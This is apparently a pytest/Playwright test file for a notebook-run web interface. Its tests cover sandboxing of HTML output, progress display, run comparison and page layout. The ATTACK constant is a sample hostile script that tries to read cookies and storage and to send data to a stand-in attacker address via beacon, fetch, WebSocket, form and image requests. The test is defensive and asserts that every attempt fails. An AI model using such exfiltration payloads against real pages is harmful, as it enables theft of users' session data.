"""Runs of notebooks in a browser: output that cannot leave its frame, progress, two runs compared."""

from __future__ import annotations

import json
import re
import socket
import subprocess
import uuid
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from couture_workflow.services.notebooks import outputs, progress
from couture_workflow.services.runs import records
from couture_workflow.services.runs.notebook_use import CellRun
from couture_workflow.services.runs.records import Run, RunKey
from couture_workflow.services.runtimes import installed
from couture_workflow.store.home import Store
from couture_workflow.views.runs.addresses import key_text
from tests.support.api_server import ApiServer
from tests.support.notebooks import HOSTILE
from tests.support.runs_of_notebooks import cell, ended, notebook, picture, png, shown, stream
from tests.web.runs.test_web_runs import address, airflow_has

pytestmark = pytest.mark.browser

#: What a script of an output may try; it tells what became of each.
ATTACK = """
<p id="report">not run</p>
<form id="form" action="STEAL?form" method="post"><input name="x"></form>
<script>
const said = {};
const attempt = (name, act) => {
  try { const value = act(); said[name] = value === undefined ? "done" : String(value); }
  catch (error) { said[name] = error.name; }
};
const later = async (name, act) => {
  try { said[name] = String(await act()); } catch (error) { said[name] = error.name; }
};
attempt("origin", () => self.origin);
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("parent", () => parent.document.title);
attempt("top", () => top.document.cookie);
attempt("popup", () => open("STEAL?popup"));
attempt("form", () => document.getElementById("form").submit());
attempt("alert", () => alert("hello"));
attempt("beacon", () => navigator.sendBeacon("STEAL?beacon", "x"));
attempt("leave top", () => { top.location = "STEAL?top"; });
attempt("socket", () => { new WebSocket("STEAL?socket".replace("http", "ws")); });
attempt("worker", () => { new Worker("data:text/javascript,1"); });
new Image().src = "STEAL?image";
const frame = document.createElement("iframe");
frame.src = "STEAL?frame";
document.body.append(frame);
const link = document.createElement("link");
link.rel = "stylesheet"; link.href = "STEAL?style";
document.head.append(link);
const script = document.createElement("script");
script.src = "STEAL?script";
document.head.append(script);
(async () => {
  await later("fetch", () => fetch("STEAL?fetch", { mode: "no-cors" }));
  await later("api", () => fetch("API", { credentials: "include" }));
  document.getElementById("report").textContent = JSON.stringify(said);
})();
</script>
"""


@pytest.fixture
def refused() -> dict[str, str]:
    """Return the addresses that pages could not reach, and why."""
    return {}


@pytest.fixture
def open_page(
    api_server: ApiServer, new_page: Callable[..., Page], refused: dict[str, str]
) -> Iterator[Callable[..., Page]]:
    errors: list[str] = []

    def open_at(path: str, **options: Any) -> Page:
        page = new_page(**options)
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.on("requestfailed", lambda request: refused.update({request.url: str(request.failure)}))
        token = api_server.token("viewer")
        page.context.add_cookies(
            [{"name": "_token", "value": token, "url": api_server.root, "httpOnly": True, "sameSite": "Lax"}]
        )
        page.goto(f"{api_server.url}/couture{path}")
        return page

    yield open_at
    assert errors == []


@pytest.fixture
def attacker() -> Iterator[socket.socket]:
    """Return what an attacker listens with."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


@pytest.fixture
def key() -> RunKey:
    return RunKey(f"{HOSTILE}-{uuid.uuid4().hex[:8]}", "manual__1", "report")


def at(key: RunKey, part: str = "") -> str:
    path, query = address(key, map_index=-1, try_number=key.try_number).split("?")
    return f"{path}{part}?{query}"


def heard(server: socket.socket) -> list[bytes]:
    """Return what was sent to an attacker; a browser opens connections in advance, and sends nothing."""
    found = []
    with suppress(BlockingIOError):
        while True:
            connection, _ = server.accept()
            with connection, suppress(TimeoutError):
                connection.settimeout(1)
                found.append(connection.recv(1000))
    return [each for each in found if each]


@pytest.mark.parametrize(
    ("part", "leave"),
    [
        ("", ""),
        ("/frame", ""),  # whoever opens it in a tab is led to the page around it
        ("/output", "STEAL?leave"),
        ("/output", "API/auth/logout"),
    ],
)
def test_no_script_of_an_output_gets_out(
    part: str,
    leave: str,
    api_server: ApiServer,
    store: Store,
    key: RunKey,
    attacker: socket.socket,
    open_page: Callable[..., Page],
) -> None:
    port = attacker.getsockname()[1]
    attack = ATTACK.replace("STEAL", f"http://127.0.0.1:{port}/")
    attack = attack.replace("API", f"{api_server.url}/api/runs/")
    ended(store, key, {outputs.NOTEBOOK: notebook(), outputs.HTML: f"<h1>Report</h1>{attack}".encode()})
    page = open_page(("/../api" if part == "/frame" else "") + at(key, part))
    here = page.url
    assert f"/{key.task_id}{'/output' if part else '?'}" in here
    title = page.title()

    page.locator("iframe").scroll_into_view_if_needed()
    report = page.frame_locator("iframe").locator("#report")
    expect(report).to_contain_text("{")
    said = json.loads(report.text_content() or "")
    assert said["origin"] == "null"
    for name in ("cookie", "storage", "parent", "top", "leave top"):
        assert said[name] == "SecurityError", name
    for name in ("fetch", "api"):
        assert said[name] == "TypeError", name
    assert said["popup"] == "null"
    if leave:
        target = leave.replace("STEAL", f"http://127.0.0.1:{port}/").replace("API", api_server.url)
        page.frames[1].evaluate("target => { setTimeout(() => { location = target; }); }", target)
        expect(report).to_have_count(0)  # it has gone, but not far
    for _ in range(3):  # what it has begun has had its time then
        assert page.evaluate("fetch('').then(answer => answer.status)") == 200
    assert heard(attacker) == []
    assert (page.url, page.title(), len(page.context.pages)) == (here, title, 1)
    assert "_token" in [each["name"] for each in page.context.cookies()]


def test_what_nbconvert_writes_is_shown_without_the_internet(
    store: Store, key: RunKey, tmp_path: Path, refused: dict[str, str], open_page: Callable[..., Page]
) -> None:
    chart = "<div id='chart'></div><script>document.getElementById('chart').textContent = 'drawn'</script>"
    table = "<table><tr><th>sum</th></tr><tr><td>42</td></tr></table>"
    written = notebook(
        cell(
            "x = 1", stream("printed\n"), picture(png(30, 20)), shown(text_html=table), shown(text_html=chart)
        ),
    )
    source = tmp_path / "output.ipynb"
    source.write_bytes(written)
    command = [installed.jupyter(), "-m", "nbconvert", "--to", "html", str(source)]
    subprocess.run(command, check=True, capture_output=True)
    content = source.with_suffix(".html").read_bytes()
    assert b"cdnjs.cloudflare.com" in content
    ended(store, key, {outputs.NOTEBOOK: written, outputs.HTML: content})

    frame = open_page(at(key, "/output")).frame_locator("iframe")

    expect(frame.get_by_text("printed")).to_be_visible()
    expect(frame.get_by_role("cell", name="42")).to_be_visible()
    expect(frame.locator("#chart")).to_have_text("drawn")
    expect(frame.locator("img")).to_have_js_property("naturalWidth", 30)
    outside = {each: why for each, why in refused.items() if "cloudflare" in each}
    assert outside
    assert set(outside.values()) == {"csp"}  # nothing was waited for


@pytest.fixture
def running(store: Store, api_server: ApiServer, key: RunKey) -> Run:
    """Return a run that goes on."""
    run = ended(store, key, {}, state="running", started_at=datetime.now(UTC), ended_at=None)
    airflow_has(api_server, key, "running", "CoutureJupyterOperator")
    tell(store, key, 2, "line 1")
    return run


def tell(store: Store, key: RunKey, number: int, *lines: str) -> None:
    """Say how far a run is."""
    outputs.folder(store, key).mkdir(parents=True, exist_ok=True)
    now = datetime.now(UTC)
    progress.write(
        outputs.folder(store, key),
        progress.Progress(
            of=5,
            cells=tuple(CellRun(each, "x", "running") for each in range(1, number + 1)),
            source=f"source of {number} {HOSTILE}",
            lines=lines,
            cell_started_at=now,
            updated_at=now,
        ),
    )


def test_progress_is_followed_to_the_end(running: Run, store: Store, open_page: Callable[..., Page]) -> None:
    page = open_page(at(running.key))
    card = page.locator("#progress")
    expect(card).to_contain_text("Cell 2 of 5")
    expect(card.locator("#progress-source")).to_have_text(f"source of 2 {HOSTILE}")

    tell(store, running.key, 3, "line 7", "<b>line 8</b>")

    expect(card.locator("#progress-said")).to_have_text("Cell 3 of 5")
    expect(card.locator("#progress-lines")).to_have_text("line 7\n<b>line 8</b>")
    expect(card.locator("progress")).to_have_attribute("value", "2")
    cells = [CellRun(1, "a", "success", 1.0), CellRun(2, "b", "failed", 2.0)]
    progress.end(outputs.folder(store, running.key))
    files = {outputs.NOTEBOOK: notebook(), outputs.HTML: b"<p>the result</p>"}
    error = "The notebook failed in cell 2 of 2.\nValueError: no"
    ended(store, running.key, files, cells=cells, error=error, started_at=running.started_at)

    expect(page.get_by_role("heading", name="Cell 2 of 2 failed")).to_be_visible()
    expect(card).to_have_count(0)
    expect(page.frame_locator("iframe").get_by_text("the result")).to_be_attached()
    expect(page.locator("#run[data-follow]")).to_have_count(0)  # it is over: nobody asks any more


def test_a_run_that_was_killed_says_where_it_was(
    running: Run, api_server: ApiServer, open_page: Callable[..., Page]
) -> None:
    page = open_page(at(running.key))
    expect(page.locator("#progress-title")).to_have_text("Progress")

    airflow_has(api_server, running.key, "failed", "CoutureJupyterOperator")

    expect(page.locator("#progress-title")).to_have_text("Where it was when it was killed")
    expect(page.locator("#progress")).to_contain_text("Cell 2 of 5")


def two(store: Store, key: RunKey) -> tuple[Run, Run]:
    """Return two runs whose outputs differ."""
    table = "<table><tr><th></th><th>sum</th></tr><tr><td>a</td><td>{}</td></tr></table>"
    runs = []
    for number in (1, 2):
        lines = "\n".join([*map(str, range(20)), f"total {number} " + "x" * 300, *map(str, range(20))])
        made = notebook(
            cell("import pandas", name="a"),
            cell(f"total = {number}", stream(lines), name="b"),
            cell(
                "plot()", picture(png(600, 300, 90 * number)), shown(text_html=table.format(number)), name="c"
            ),
        )
        runs.append(
            ended(
                store,
                replace(key, run_id=f"manual__{number}"),
                {outputs.NOTEBOOK: made, outputs.HTML: b"<p>x</p>", f"files/{HOSTILE}.csv": b"1"},
                parameters={"day": f'"2026-01-0{number}"', "name": '"same"', "x" * 60: '"' + "y" * 200 + '"'},
                cells=[CellRun(each, "x" * 90, "success", each * number * 0.7) for each in (1, 2, 3)],
                started_at=datetime.now(UTC) - timedelta(minutes=9 - number),
                ended_at=datetime.now(UTC),
            )
        )
    return runs[0], runs[1]


def test_two_runs_are_chosen_in_the_list_and_compared(
    store: Store, key: RunKey, open_page: Callable[..., Page]
) -> None:
    old, new = two(store, key)
    page = open_page(f"/runs/?q={key.dag_id[-8:]}")
    button = page.get_by_role("button", name="Compare")
    expect(button).to_be_disabled()
    for run in (new, old):
        page.get_by_role("checkbox", name=re.compile(f"in {run.key.run_id}")).check()
    # What was chosen outlives the renewal of the list.
    page.get_by_role("searchbox").focus()
    page.evaluate("document.querySelector('#runs tbody').remove()")
    expect(page.get_by_role("checkbox", checked=True)).to_have_count(2)
    button.click()

    expect(page.get_by_role("heading", name="Compare runs", level=1)).to_be_visible()
    expect(page.get_by_text("Cells whose source or results differ: 2; the same: 1.")).to_be_visible()
    expect(page.locator(".diff-del").first).to_have_text("- total = 1")
    expect(page.locator(".diff-add").first).to_have_text("+ total = 2")
    pictures = page.locator("img.compare-picture")
    expect(pictures).to_have_count(2)
    for picture_of in pictures.all():
        expect(picture_of).to_have_js_property("naturalWidth", 600)
    expect(page.locator("mark")).to_have_text(["1", "2"])


@pytest.mark.parametrize("mode", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
def test_all_pages_fit(
    width: int, mode: str, store: Store, key: RunKey, open_page: Callable[..., Page]
) -> None:
    old, new = two(store, key)
    compare = "&".join(f"run={each}" for each in map(_quoted, (old, new)))
    for path in (
        f"/runs/?q={key.dag_id[-8:]}",
        at(new.key),
        at(new.key, "/output"),
        f"/runs/compare?{compare}",
    ):
        page = open_page(path, viewport={"width": width, "height": 900}, color_scheme=mode)
        expect(page.locator("html")).to_contain_class(mode)
        assert page.evaluate("document.documentElement.scrollWidth") == width, path


def _quoted(run: Run) -> str:
    return quote(key_text(run.key))


def test_a_record_without_details_of_an_earlier_version_is_shown(
    store: Store, key: RunKey, open_page: Callable[..., Page]
) -> None:
    run = Run(
        key=key,
        kind="notebook",
        state="success",
        started_at=datetime.now(UTC),
        ended_at=datetime.now(UTC),
        app_name="old.ipynb",
        application_arguments=("n=5",),
    )
    records.write(store, run)
    page = open_page(at(key))

    expect(page.get_by_text("n=5")).to_be_visible()
    expect(page.get_by_text("There is no output")).to_be_visible()
